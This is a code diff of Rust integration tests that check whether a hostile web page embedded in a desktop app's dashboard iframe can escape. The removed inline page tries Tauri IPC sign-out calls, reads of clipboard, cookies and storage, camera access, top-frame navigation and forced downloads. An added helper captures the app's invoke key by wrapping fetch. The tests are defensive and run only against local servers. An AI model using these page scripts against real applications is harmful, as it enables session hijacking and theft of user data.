@@ -10,62 +10,39 @@ use serde_json::json;
 
 use crate::harness::app::{App, Start};
 use crate::harness::home::Home;
+use crate::harness::mouse::Mouse;
+use crate::harness::page::Page;
 use crate::harness::pbx::Pbx;
+use crate::harness::plain_web_view::PlainWebView;
 use crate::harness::poll;
 use crate::harness::screen::Screen;
 
-/// What the page tries. Each says in the end what came of it: `got …` where it got anything.
-const HOSTILE: &str = r#"<!doctype html><title>hostile</title><body>hostile<script>
-const say = (row, what) => { new Image().src = "/row?" + encodeURIComponent(row) + "=" + encodeURIComponent(what) };
-const attempts = {
-  internals: () => "__TAURI_INTERNALS__" in window || "__TAURI__" in window || "ipc" in window ? "got it" : "none",
-  born: () => "__COMMUNICATOR__" in window || "__COMMUNICATOR_TAKE__" in window ? "got it" : "none",
-  handler: () => {
-    const call = { cmd: "sign_out", callback: 1, error: 2, payload: { everywhere: true }, options: {}, __TAURI_INVOKE_KEY__: "x" };
-    window.webkit.messageHandlers.ipc.postMessage(JSON.stringify(call));
-    return "sent";
-  },
-  ipc: async () => {
-    const answer = await fetch("ipc://localhost/sign_out", { method: "POST", body: "{\"everywhere\":true}" });
-    return (answer.ok ? "got " : "refused: " + answer.status + " ") + (await answer.text());
-  },
-  own_page: async () => "got " + (await (await fetch("tauri://localhost/index.html")).text()),
-  other_item: async () => "got " + (await (await fetch("web-item://localhost/x")).text()),
-  parent_page: () => "got " + parent.document.title + top.document.title,
-  parent_data: () => "got " + top.__COMMUNICATOR__ + top.__TAURI_INTERNALS__,
-  parent_message: () => { parent.postMessage({ cmd: "sign_out" }, "*"); top.postMessage("patch", "*"); return "sent" },
-  parent_frames: () => "got " + top.frames.length + top.location.href,
-  top_away: () => { top.location = "/elsewhere"; return "sent" },
-  top_replace: () => { top.location.replace("TRAP"); return "sent" },
-  top_link: () => { const a = document.createElement("a"); a.href = "TRAP"; a.target = "_top"; document.body.append(a); a.click(); return "sent" },
-  pop_up: () => (window.open("TRAP") === null ? "none" : "got a window"),
-  pop_up_link: () => { const a = document.createElement("a"); a.href = "TRAP"; a.target = "_blank"; document.body.append(a); a.click(); return "sent" },
-  storage: () => "got " + localStorage.length,
-  session_storage: () => "got " + sessionStorage.length,
-  cookie: () => { document.cookie = "a=b"; return "got " + document.cookie },
-  database: () => "got " + indexedDB.open("x").readyState,
-  caches: async () => "got " + (await caches.keys()),
-  print: () => { print(); return "sent" },
-  alert: () => { alert("hostile"); return "sent" },
-  download: () => { const a = document.createElement("a"); a.href = "/loot"; a.download = "loot.txt"; document.body.append(a); a.click(); return "sent" },
-  download_data: () => { const a = document.createElement("a"); a.href = "data:application/octet-stream,loot"; a.download = "loot.bin"; document.body.append(a); a.click(); return "sent" },
-  full_screen: async () => { await document.documentElement.requestFullscreen(); return "got it" },
-  camera: async () => { await navigator.mediaDevices.getUserMedia({ video: true, audio: true }); return "got it" },
-  place: () => new Promise((done, failed) => navigator.geolocation.getCurrentPosition(() => done("got it"), failed)),
-  clipboard: async () => "got " + (await navigator.clipboard.readText()),
-  frame_elsewhere: () => { const f = document.createElement("iframe"); f.src = "tauri://localhost/"; document.body.append(f); return "sent" },
-  worker: () => { navigator.serviceWorker.register("/worker.js"); return "sent" },
-};
-const soon = (what) => Promise.race([what, new Promise((_, no) => setTimeout(() => no(new Error("silent")), 3000))]);
-(async () => {
-  for (const [row, attempt] of Object.entries(attempts)) {
-    let what;
-    try { what = await soon(attempt()) } catch (error) { what = "refused: " + error }
-    say(row, what);
-  }
-  say("end", "end");
-})();
-</script>"#;
+/// A page that tries whatever it should not do, one thing with each press of the mouse. Each says in the end what came
+/// of it: `got …` where it got anything. `KEY` stands for what opens the door of the commands, `TRAP` for a server.
+const HOSTILE: &str = include_str!("harness/hostile.html");
+
+/// What there is to get in the app's own window alone.
+const OF_THE_APP: [&str; 6] = ["internals", "born", "ipc", "own_page", "other_item", "frame_elsewhere"];
+
+/// What WebKitGTK lets every page do at a press of the mouse, in whatever frame, and has no setting against.
+const LET: [&str; 2] = ["clipboard_write", "clipboard_copy"];
+
+/// The attempts by name, each with its source.
+fn attempts() -> Vec<(&'static str, &'static str)> {
+    let attempts: Vec<(&str, &str)> = HOSTILE
+        .lines()
+        .skip_while(|line| !line.starts_with("const attempts"))
+        .skip(1)
+        .take_while(|line| !line.starts_with("};"))
+        .filter_map(|line| line.strip_prefix("  ")?.strip_suffix(',')?.split_once(": "))
+        .collect();
+    assert!(attempts.len() >= 38, "{attempts:?}");
+    attempts
+}
+
+/// A page in a frame that lets it do anything, and what it is told by it.
+const OUTER: &str = "<!doctype html><title>outer</title><script>onmessage = () => { new Image().src = '/heard' }</script>\
+    <iframe src=/page allowfullscreen style='position:fixed;inset:0;width:100%;height:100%;border:0'></iframe>";
 
 /// A server of pages that nobody would want.
 struct Hostile {
@@ -74,10 +51,13 @@ struct Hostile {
 }
 
 impl Hostile {
-    /// `trap`: where its page wants to go.
     fn serve(page: &str) -> Self {
-        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
-        let origin = format!("http://127.0.0.1:{}", listener.local_addr().unwrap().port());
+        Self::on(TcpListener::bind("127.0.0.1:0").unwrap(), page)
+    }
+
+    /// At `/outer`, the page in a frame that lets it do anything.
+    fn on(listener: TcpListener, page: &str) -> Self {
+        let origin = format!("http://{}", listener.local_addr().unwrap());
         let asked = Arc::<Mutex<Vec<String>>>::default();
         let (kept, page) = (Arc::clone(&asked), page.to_owned());
         // Ends with the program of the tests.
@@ -89,9 +69,19 @@ impl Hostile {
                     let mut request = [0; 8192];
                     let length = stream.read(&mut request).unwrap_or_default();
                     let request = String::from_utf8_lossy(&request[..length]).into_owned();
+                    let (kind, page) = match request.split(' ').nth(1).unwrap_or_default() {
+                        "/worker.js" => ("text/javascript", String::new()),
+                        "/outer" => ("text/html", OUTER.to_owned()),
+                        // Wherever it is asked from: to be kept, and not to be shown.
+                        "/download" => (
+                            "application/octet-stream\r\nContent-Disposition: attachment; filename=loot.txt",
+                            String::from("loot"),
+                        ),
+                        _ => ("text/html", page),
+                    };
                     kept.lock().unwrap().push(request);
                     let answer = format!(
-                        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{page}",
+                        "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{page}",
                         page.len()
                     );
                     let _gone = stream.write_all(answer.as_bytes());
@@ -136,32 +126,47 @@ fn driven<'a>(screen: &'a Screen, home: &'a Home, pbx: &Pbx) -> App<'a> {
     app
 }
 
+/// What opens the door of the commands, as the page itself sends it.
+fn key(page: &Page) -> String {
+    page.run(
+        "const real = window.fetch; window.fetch = (address, options) => { \
+         window.__key ??= options?.headers?.get?.('Tauri-Invoke-Key'); return real(address, options) }; \
+         void window.__TAURI_INTERNALS__.invoke('saved_view')",
+    );
+    poll::until_some("the key", || page.value("window.__key ?? null").as_str().map(str::to_owned))
+}
+
 #[test]
 fn a_hostile_page_on_a_dashboard_is_shown_and_gets_nowhere() {
     let (screen, home, pbx) = (Screen::start(), Home::make(), pbx());
-    let trap = Hostile::serve("trapped");
-    let hostile = Hostile::serve(&HOSTILE.replace("TRAP", &trap.origin));
-    with_page(&pbx, &format!("{}/page", hostile.origin));
+    let first = Hostile::serve("nothing yet");
+    with_page(&pbx, &format!("{}/page", first.origin));
     let app = driven(&screen, &home, &pbx);
     let page = app.page();
     let address = page.value("location.href");
-    poll::until("everything was tried", || hostile.rows().contains_key("end"));
+    let trap = Hostile::serve("trapped");
+    let filled = |text: &str, key: &str| text.replace("TRAP", &trap.origin).replace("KEY", key);
+    // Even with the key, which no frame has.
+    let key = key(page);
+    let hostile = Hostile::serve(&filled(HOSTILE, &key));
+    with_page(&pbx, &format!("{}/page", hostile.origin));
+    poll::until("the hostile page is shown", || !hostile.asked().is_empty());
+    let mouse = Mouse::over(&screen, &app);
+    poll::some_within(3 * poll::LONG, "everything was tried", || {
+        mouse.click("#dashboard iframe");
+        hostile.rows().contains_key("end").then_some(())
+    });
 
     let rows = hostile.rows();
-    let tried: Vec<&str> = HOSTILE
-        .lines()
-        .skip_while(|line| !line.starts_with("const attempts"))
-        .skip(1)
-        .take_while(|line| !line.starts_with("};"))
-        .filter_map(|line| line.strip_prefix("  ")?.split_once(": "))
-        .filter(|(_, rest)| rest.starts_with("()") || rest.starts_with("async ()"))
-        .map(|(row, _)| row)
-        .collect();
-    assert!(tried.len() >= 28, "{tried:?}");
-    for row in tried {
+    assert_eq!(rows["pressed"], "yes", "a press counts as the user's");
+    let mut got = Vec::new();
+    for (row, _) in attempts() {
         let what = rows.get(row).unwrap_or_else(|| panic!("{row} was not tried: {rows:#?}"));
-        assert!(!what.starts_with("got"), "{row}: {what}");
+        if what.starts_with("got") {
+            got.push(row);
+        }
     }
+    assert_eq!(got, LET, "{rows:#?}");
 
     page.wait_until_drawn();
     assert_eq!(page.value("window.__stayed"), json!(true), "the page was loaded anew");
@@ -181,6 +186,81 @@ fn a_hostile_page_on_a_dashboard_is_shown_and_gets_nowhere() {
         assert!(!request.to_ascii_lowercase().contains("referer: tauri"), "{request}");
     }
     assert!(pbx.takes(token), "the session still stands");
+
+    // The same from the top frame: it has what the page looked for, and is obeyed.
+    let source = |row: &str| {
+        let (_, source) = attempts().into_iter().find(|(name, _)| *name == row).unwrap();
+        filled(source, &key)
+    };
+    for row in ["internals", "born"] {
+        assert_eq!(page.value(&format!("({})()", source(row))), json!("got it"), "{row}");
+    }
+    page.run(&format!("void ({})()", source("ipc")));
+    page.wait_for("#sign-in");
+    poll::until("the session is over", || !pbx.takes(token));
+}
+
+#[test]
+fn what_the_hostile_page_tries_it_gets_where_nothing_is_in_its_way() {
+    let (screen, home) = (Screen::start(), Home::make());
+    let trap = Hostile::serve("trapped");
+    let hostile = Hostile::serve(&HOSTILE.replace("TRAP", &trap.origin));
+    let view = PlainWebView::show(
+        &screen,
+        &home,
+        &format!("{}/outer", hostile.origin),
+        &format!("{}/", trap.origin),
+    );
+    poll::until("the hostile page is shown", || {
+        hostile.asked().iter().any(|request| request.starts_with("GET /page"))
+    });
+    let mut turn = 0;
+    poll::some_within(3 * poll::LONG, "everything was tried", || {
+        turn += 1;
+        view.press(turn);
+        hostile.rows().contains_key("end").then_some(())
+    });
+
+    let (rows, mut said) = (hostile.rows(), view.said());
+    if hostile.asked().iter().any(|request| request.starts_with("GET /heard")) {
+        said.push("parent_message".to_owned());
+    }
+    // Forms are known by where they lead.
+    let as_said = |row: &str| match row {
+        "top_form" => "_top".to_owned(),
+        "pop_up_form" => "_blank".to_owned(),
+        _ => row.to_owned(),
+    };
+    let gets = |row: &str| {
+        row == "pressed"
+            || rows.get(row).is_some_and(|what| what.starts_with("got"))
+            || said.contains(&as_said(row))
+    };
+    let lost: Vec<&str> = attempts()
+        .into_iter()
+        .map(|(row, _)| row)
+        .filter(|row| !OF_THE_APP.contains(row) && !gets(row))
+        .collect();
+    assert_eq!(lost, [] as [&str; 0], "{rows:#?}\n{said:#?}");
+}
+
+#[test]
+fn a_page_whose_server_is_not_there_yet_is_shown_once_it_is_without_a_users_help() {
+    let (screen, home, pbx) = (Screen::start(), Home::make(), pbx());
+    // Of an address that no other test uses: a port that refuses.
+    let refuses = TcpListener::bind("127.66.6.14:0").unwrap();
+    let address = refuses.local_addr().unwrap();
+    drop(refuses);
+    with_page(&pbx, &format!("http://{address}/page"));
+    let app = driven(&screen, &home, &pbx);
+    let page = app.page();
+    page.wait_for_words("does not answer");
+    let late = TcpListener::bind(address).unwrap();
+    let late = Hostile::on(late, "here at last<script>new Image().src='/row?ran=yes'</script>");
+    poll::until("the page has come by itself", || late.rows().contains_key("ran"));
+    poll::until("nothing is said any more", || !page.words().contains("does not answer"));
+    assert!(!page.has("#dashboard article [role=status]"));
+    assert_eq!(page.value("window.__stayed"), json!(true), "the page of the app was loaded anew");
 }
 
 #[test]
